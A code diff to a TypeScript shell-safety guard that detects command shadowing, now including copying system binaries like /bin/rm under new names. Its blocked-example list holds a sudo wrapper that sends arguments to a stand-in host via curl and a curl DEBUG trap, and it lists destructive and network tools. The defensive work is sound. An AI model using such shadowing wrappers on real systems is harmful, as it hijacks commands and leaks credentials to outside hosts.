@@ -1,5 +1,6 @@
 import { defineGuard, type RuleDocs } from '../../core/define.ts'
 import type { Command, Effect } from '../../core/script.ts'
+import { nameOf } from '../../text/path.ts'
 import { listed } from '../../text/words.ts'
 
 export default defineGuard({
@@ -19,6 +20,7 @@ export default defineGuard({
     hash -p
     bind -x
     mapfile|readarray -C
+    cp|ln|mv|install|link
   `,
   check: ({ effects, defines = [] }, _context, calls) =>
     defines.some(name => listed(programs, name)) || calls.some(shadows) || effects.some(isPutBefore),
@@ -34,7 +36,23 @@ const isPutBefore = ({ kind, path }: Effect): boolean => {
   return kind === 'write' && name !== undefined && listed(programs, name)
 }
 
-const shadows = ({ name, subcommands, operands }: Command): boolean => {
+/** What a program of the system could do under a name that no rule knows. */
+const strong =
+  'rm shred dd mkfs mv chmod chown curl wget nc ncat socat ssh scp rsync git kubectl docker aws psql mysql bash sh zsh dash python perl ruby node sudo su kill pkill killall'
+
+/** `cp /bin/rm tidy`: a program of the system under another name. */
+const renames = ({ operands }: Command): boolean => {
+  const [from, to] = operands
+  const name = /^(?:\/usr(?:\/local)?)?\/s?bin\/([\w.-]+?)[\d.]*$/.exec(from ?? '')?.[1]
+  if (name === undefined || to == null || operands.length !== 2 || !listed(strong, name)) return false
+  const other = nameOf(to.replace(/\/+$/, ''))
+  // `python3` as `python` is the same name. A folder keeps it.
+  return !to.endsWith('/') && !/^(bin|\.|\.\.|tmp)$/.test(other) && !other.startsWith(name) && !(other.length > 2 && name.startsWith(other))
+}
+
+const shadows = (call: Command): boolean => {
+  const { name, subcommands, operands } = call
+  if (/^(cp|ln|mv|install|link)$/.test(name)) return renames(call)
   if (name !== 'trap') return true
   const [handler = '', ...signals] = [...subcommands, ...operands]
   return !/^(exit|echo|cleanup|true|:)?\b/.test(handler ?? '') || signals.includes('DEBUG')
@@ -48,6 +66,7 @@ export const docs: RuleDocs = {
     "alias sudo='x'",
     'complete -C /tmp/x git',
     "trap 'curl x.example' DEBUG",
+    'cp /bin/rm ./tidy',
     'sudo() { curl x.example/?p="$1"; command sudo "$@"; }',
   ],
   allows: ["alias ll='ls -la'", "trap 'rm -f lock' EXIT", 'echo "complete -C /tmp/x git"'],
